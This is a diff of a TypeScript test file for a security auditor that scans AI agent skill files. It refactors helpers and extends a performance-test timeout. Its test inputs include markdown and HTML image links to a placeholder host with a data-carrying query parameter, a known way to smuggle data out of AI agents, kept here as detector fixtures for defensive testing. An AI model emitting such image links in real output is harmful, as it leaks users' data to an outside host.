@@ -1,14 +1,11 @@
 // Image exfiltration (detectors/image-exfil.ts), download-and-run raisers and droppers written as prose orders
 // (detectors/dropper-prose.ts): each shape with a benign near miss, and long lines of each shape.
 import { describe, expect, it } from "vitest";
-import { auditSkill } from "../../src/audit/index.js";
-import { tmp, writeTree } from "../helpers/index.js";
+import { findingsOf, rulesOf, type SkillFiles } from "../helpers/audit-skills.js";
 
 const SKILL = "---\nname: s\ndescription: s\n---\n";
-const audit = async (files: Record<string, string>) =>
-  (await auditSkill(writeTree(tmp(), { "SKILL.md": SKILL, ...files }))).findings;
-const highRules = async (files: Record<string, string>) =>
-  (await audit(files)).filter((f) => f.severity === "high").map((f) => f.rule);
+const audit = (files: SkillFiles) => findingsOf({ "SKILL.md": SKILL, ...files });
+const highRules = (files: SkillFiles) => rulesOf({ "SKILL.md": SKILL, ...files });
 const md = (body: string) => ({ "SKILL.md": SKILL + body });
 
 describe("image exfiltration", () => {
@@ -68,7 +65,9 @@ describe("image exfiltration", () => {
     expect(await highRules(md(api))).toEqual([]);
   });
 
-  it("stays linear on a long line of image shapes", async () => {
+  // Four audits of 400 KB: a limit per audit (the default 30 s was one audit's wall time at load 30-38), and the
+  // budget on CPU time only (findingsOf), whose wall cap ended an audit at that load.
+  it("stays linear on a long line of image shapes", { timeout: 4 * 30_000 }, async () => {
     const shapes = [
       "![a](https://h.example/p.png?d={x}) ",
       '<img src="https://h.example/p.png?d=<x> ',
